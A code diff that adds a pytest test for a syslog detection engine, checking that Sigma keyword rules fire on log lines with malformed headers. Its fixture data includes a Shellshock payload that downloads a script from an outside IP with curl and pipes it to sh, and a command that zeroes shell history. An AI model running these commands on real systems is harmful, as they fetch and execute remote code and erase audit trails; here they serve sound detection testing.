@@ -126,3 +126,43 @@ detection:
     ).events
     events = events.with_columns(pl.lit(1).alias("segment"), pl.lit(0).alias("position"))
     assert [a["rule_title"] for a in detect(events, rs)] == ["good"]
+
+
+# Lines whose header no parser reads, each carrying what a SigmaHQ keyword rule names: a sender with
+# a broken clock (hour 25), an unknown month, no host field, invalid UTF-8 — or an attacker who
+# malformed the header on purpose. Their headers must hide nothing from detection or search.
+SHELLSHOCK = "() { :; }; /bin/bash -c 'curl http://203.0.113.9/x | sh'"
+SSHD_ERROR = "fatal: buffer_get_string: bad string"
+HISTORY = "export HISTFILESIZE=0"
+MALFORMED = [
+    f"<38>Jan  5 25:00:00 web01 sshd[1]: {SHELLSHOCK}".encode(),
+    f"<38>Foo  5 10:00:00 web01 sshd[2]: {SSHD_ERROR}".encode(),
+    f"<38>Jan  5 10:00:00 {HISTORY}".encode(),  # no host, no program
+    b"<38>Jan  5 10:00:\xff\xfe web01 sshd[3]: " + SHELLSHOCK.encode(),  # invalid UTF-8 in the header
+]
+PARSED = [
+    f"<38>Jan  5 10:00:01 web01 sshd[1]: {SHELLSHOCK}".encode(),
+    f"<38>Jan  5 10:00:02 web01 sshd[2]: {SSHD_ERROR}".encode(),
+    f"<38>Jan  5 10:00:03 web01 bash[4]: {HISTORY}".encode(),
+    b"<38>Jan  5 10:00:04 web01 sshd[3]: " + SHELLSHOCK.encode(),
+]
+KEYWORD_RULES = {
+    "Shellshock Expression": 2,
+    "Suspicious OpenSSH Daemon Error": 1,
+    "Linux Command History Tampering": 1,
+}
+
+
+@pytest.mark.parametrize("header", ["parsed", "not parsed"])
+def test_keyword_rules_find_what_lines_carry_whether_or_not_their_header_parses(header):
+    lines = PARSED if header == "parsed" else MALFORMED
+    events = parsers.parse_bytes(b"\n".join(lines), "syslog", year=2013).events
+    assert events["parsed"].to_list() == [header == "parsed"] * 4
+    events = events.with_columns(
+        pl.lit(1, dtype=pl.Int64).alias("segment"), pl.int_range(pl.len(), dtype=pl.Int64).alias("position")
+    )
+    rs = compile_texts(_sources(SAMPLES))
+    counts: dict[str, int] = {}
+    for a in detect(events, rs):
+        counts[a["rule_title"]] = counts.get(a["rule_title"], 0) + a["count"]
+    assert {t: counts.get(t, 0) for t in KEYWORD_RULES} == KEYWORD_RULES
